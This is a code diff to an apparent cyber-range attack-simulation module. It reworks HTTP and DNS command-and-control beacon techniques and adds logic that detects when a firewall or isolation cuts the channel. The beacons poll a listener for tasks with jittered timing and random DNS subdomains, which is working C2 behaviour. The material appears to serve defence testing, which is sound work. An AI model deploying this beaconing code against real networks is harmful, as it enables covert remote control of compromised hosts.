@@ -23,11 +23,14 @@ import socket
 import time
 
 from cyberrange.attack.spec import Param, technique
-from cyberrange.attack.techniques.common import Result, flow
+from cyberrange.attack.techniques import witness
+from cyberrange.attack.techniques.common import Blocked, Result, conclude, defence_reason, flow
 from cyberrange.attack.techniques.tcp import Conn
 
 TCP_NOTSENT_LOWAT = 25
+DEAD = ("refused", "timeout", "unreachable")     # the listener cannot be reached
 UDP_FRAME_OVERHEAD = 42          # Ethernet 14 + IP 20 + UDP 8
+CUT_AFTER = 3                    # unanswered DNS polls in a row, after answers: the channel is cut
 
 
 def parse_service(target: str, default_port: int) -> tuple[str, int]:
@@ -88,9 +91,19 @@ class DnsClient:
 
     def __init__(self, ip: str, port: int, timeout: float = 1.0, retries: int = 2):
         self.ip, self.port, self.timeout, self.retries = ip, port, timeout, retries
+        witness.ensure()
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-        self.sock.connect((ip, port))
+        try:
+            self.sock.connect((ip, port))
+        except OSError as exc:
+            self.sock.close()
+            reason = defence_reason(exc, f"connect to {ip}:{port}")
+            if reason:
+                raise Blocked(reason) from None
+            raise
         self.src, self.sport = self.sock.getsockname()
+        # a netdev egress rule drops datagrams after send() succeeded: the witness counts
+        witness.claim((self.src, ip, "udp", self.sport, port))
         self.packets = self.bytes = 0
         self.outstanding = 0             # datagrams sent whose answer has not come back
         self.errors = 0
@@ -104,8 +117,11 @@ class DnsClient:
         for _attempt in range(1 + self.retries):
             try:
                 self.sock.send(wire)
-            except OSError:
+            except OSError as exc:
                 self.errors += 1
+                reason = defence_reason(exc, f"a query to {self.ip}:{self.port}")
+                if reason:
+                    raise Blocked(reason) from None
                 return None
             self.packets += 1
             self.bytes += UDP_FRAME_OVERHEAD + len(wire)
@@ -212,35 +228,44 @@ def http_beacon(targets: list[str], params: dict) -> Result:
     agent_id = str(params["id"] or secrets.token_hex(4))
     services = list(dict.fromkeys(parse_service(t, params["port"]) for t in targets))
     tasks, ok, failed = [], 0, {}
+    answered: set[tuple[str, int]] = set()
     t_end = time.monotonic() + duration if duration > 0 else None
     n = 0
-    while n < count:
-        for ip, port in services:
-            sep = "&" if "?" in path else "?"
-            body = json.dumps({"id": agent_id, "n": n}).encode() if method == "POST" else b""
-            status, fl, rbody = http_request(ip, port, method, f"{path}{sep}id={agent_id}", body, ua)
-            res.flows.append(fl)
-            if status == "ok":
-                ok += 1
-                try:
-                    tasks.append(json.loads(rbody).get("task"))
-                except (ValueError, AttributeError):
-                    tasks.append(rbody.decode(errors="replace")[:200])
-            else:
+    try:
+        while n < count and services:
+            for ip, port in list(services):
+                sep = "&" if "?" in path else "?"
+                body = json.dumps({"id": agent_id, "n": n}).encode() if method == "POST" else b""
+                status, fl, rbody = http_request(ip, port, method, f"{path}{sep}id={agent_id}",
+                                                 body, ua)
+                res.flows.append(fl)
+                if status == "ok":
+                    ok += 1
+                    answered.add((ip, port))
+                    try:
+                        tasks.append(json.loads(rbody).get("task"))
+                    except (ValueError, AttributeError):
+                        tasks.append(rbody.decode(errors="replace")[:200])
+                    continue
                 failed[status] = failed.get(status, 0) + 1
-        n += 1
-        if n >= count or (t_end and time.monotonic() >= t_end):
-            break
-        pause = jittered(interval, jitter, rng)
-        if t_end:
-            pause = min(pause, max(0.0, t_end - time.monotonic()))
-        time.sleep(pause)
+                if status in DEAD and (ip, port) in answered:
+                    # the listener answered before: the channel was cut, stop calling it
+                    res.cut(f"{ip}:{port} stopped answering check-ins ({status}) after "
+                            f"check-in {n}: a block or an isolation mid-step")
+                    services.remove((ip, port))
+            n += 1
+            if n >= count or (t_end and time.monotonic() >= t_end) or not services:
+                break
+            pause = jittered(interval, jitter, rng)
+            if t_end:
+                pause = min(pause, max(0.0, t_end - time.monotonic()))
+            time.sleep(pause)
+    except Blocked as exc:          # the actor's own node stopped sending
+        res.cut(exc.reason)
     res.log.append(f"{n} rounds, {ok} check-ins answered, failures: {failed or 'none'}")
     res.facts = {"beacons": ok, "tasks": tasks, "agent_id": agent_id}
-    res.outcome = "succeeded" if ok else (
-        "blocked" if set(failed) <= {"refused", "timeout", "unreachable"} else "failed")
-    res.end = time.time()
-    return res
+    return conclude(res, ok, set(failed) <= set(DEAD)
+                    and "every check-in was refused or dropped (a firewall on the path)")
 
 
 # --------------------------------------------------------------------------- T1071.004
@@ -265,27 +290,38 @@ def dns_beacon(targets: list[str], params: dict) -> Result:
     ip, port = parse_service(targets[0], 53)
     if len(targets) > 1:
         res.log.append(f"DNS C2 talks to one server; using {ip}:{port}")
-    client = DnsClient(ip, port, float(params["timeout"]), int(params["retries"]))
-    tasks = []
+    tasks, unanswered = [], 0
     t_end = time.monotonic() + duration if duration > 0 else None
     n = 0
+    client = None
     try:
+        client = DnsClient(ip, port, float(params["timeout"]), int(params["retries"]))
         while n < count:
             ans = client.query(f"{secrets.token_hex(4)}.{session}.p.{domain}", "TXT")
             text = first_rdata(ans)
             if text is not None:
+                unanswered = 0
                 try:
                     tasks.append(json.loads(text).get("task"))
                 except (ValueError, AttributeError):
                     tasks.append(text[:200])
+            else:
+                unanswered += 1
+                if tasks and unanswered >= CUT_AFTER:
+                    res.cut(f"{ip}:{port} stopped answering after {len(tasks)} answered polls "
+                            f"({unanswered} polls in a row unanswered): a block mid-step")
+                    break
             n += 1
             if n >= count or (t_end and time.monotonic() >= t_end):
                 break
             time.sleep(jittered(interval, jitter, rng))
+    except Blocked as exc:          # the actor's own node stopped sending
+        res.cut(exc.reason)
     finally:
-        res.flows.append(client.close())
-    res.log.append(f"{n} polls, {len(tasks)} answered, {client.packets} datagrams")
+        if client is not None:
+            res.flows.append(client.close())
+    res.log.append(f"{n} polls, {len(tasks)} answered, "
+                   f"{client.packets if client else 0} datagrams")
     res.facts = {"beacons": len(tasks), "tasks": tasks, "session": session}
-    res.outcome = "succeeded" if tasks else "blocked"
-    res.end = time.time()
-    return res
+    return conclude(res, tasks, "no poll was answered (a firewall drops the queries, or no "
+                                "server listens)")
